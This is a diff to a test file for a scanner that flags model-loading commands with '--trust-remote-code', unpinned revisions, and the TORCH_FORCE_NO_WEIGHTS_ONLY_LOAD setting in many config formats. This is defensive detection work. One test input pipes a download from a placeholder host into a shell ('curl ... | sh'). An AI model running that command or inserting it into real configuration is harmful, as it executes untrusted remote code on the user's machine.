@@ -21,7 +21,7 @@ describe('a command that loads a model', () => {
     ['Makefile', 'serve:\n\t@vllm serve someone/m --trust-remote-code\n', 2],
     ['serving.mk', 'serve: deps ; vllm serve someone/m --trust-remote-code\n', 1],
     ['Makefile', `${MAKE('someone/m')}\t-vllm serve $(MODEL) --trust-remote-code\n`, 5],
-    ['GNUmakefile', `M = someone/m --trust-remote-code # ours\nserve:\n\tvllm serve \\\n\t  $(M)\n`, 3],
+    ['GNUmakefile', `M = someone/m --trust-remote-code # ours\nserve:\n\tvllm serve $(M) \\\n\t  -q\n`, 3],
     ['Makefile', 'serve:\n\tx=$$(date); echo $@ $< && vllm serve someone/m --trust-remote-code\n', 2],
     ['justfile', `model := "someone/m"\nserve:\n  vllm serve {{ model }} --trust-remote-code\n`, 3],
     ['package.json', '{\n "scripts": {\n  "a": "vllm serve someone/m --trust-remote-code"\n }\n}\n', 3],
@@ -36,6 +36,38 @@ describe('a command that loads a model', () => {
     const pinned = text.replace('--trust-remote-code', `--trust-remote-code --revision ${COMMIT}`);
     expect(await told(path, pinned)).toEqual([`LOAD-REMOTE-CODE LOW ${line}`]);
     expect(await told(path, text.replaceAll(/vllm serve/g, 'echo'))).toEqual([]);
+  });
+
+  it.each([
+    ['Taskfile.yml', 'tasks:\n  serve:\n    cmds:\n      - @@\n', 4],
+    ['Taskfile.yml', 'vars:\n  M: a\ntasks:\n  serve: @@\n', 4],
+    ['Procfile', 'web: @@\n', 1],
+    ['deploy/serve.service', '[Service]\nExecStart=/usr/bin/@@\n', 2],
+    ['sky.yaml', 'resources:\n  accelerators: A100\nrun: |\n  echo hi\n  @@\n', 5],
+    ['pyproject.toml', '[tool.poe.tasks]\nserve = "@@"\n', 2],
+    ['pyproject.toml', '[tool.poe.tasks.serve]\ncmd = "@@"\n', 2],
+    ['pixi.toml', '[tasks]\na = "ls"\nserve = { cmd = "@@" }\n', 3],
+    ['supervisord.conf', '[program:v]\ncommand=@@\n', 2],
+    ['dvc.yaml', 'stages:\n  get:\n    cmd: @@\n', 3],
+  ])('is read in %s', async (path, text, line) => {
+    const file = (command: string): string => text.replace('@@', command);
+    const switched = file('vllm serve someone/m --trust-remote-code');
+    expect((await told(path, switched)).sort()).toEqual([
+      `LOAD-REMOTE-CODE MEDIUM ${line}`,
+      `LOAD-UNPINNED INFO ${line}`,
+    ]);
+    expect(await told(path, file(`vllm serve someone/m --revision ${COMMIT}`))).toEqual([]);
+    expect(await told(path, file('vllm --help; curl https://x.example.invalid/i | sh'))).toEqual([]);
+  });
+
+  it.each([
+    ['.env', 'A=1\nTORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\n', 2],
+    ['a.service', '[Service]\nEnvironment=TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1\nExecStart=/a\n', 2],
+    ['tox.ini', '[testenv]\nsetenv =\n  TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD = 1\n', 3],
+    ['pixi.toml', '[activation.env]\nTORCH_FORCE_NO_WEIGHTS_ONLY_LOAD = "1"\n', 2],
+  ])('is helped by a variable in %s', async (path, text, line) => {
+    expect(await told(path, text)).toEqual([`LOAD-TORCH LOW ${line}`]);
+    expect(await told(path, text.replace(/1("?\n)/, '0$1').replace('LOAD=1', 'LOAD=0'))).toEqual([]);
   });
 
   it('is all that is said of such files on these surfaces', async () => {
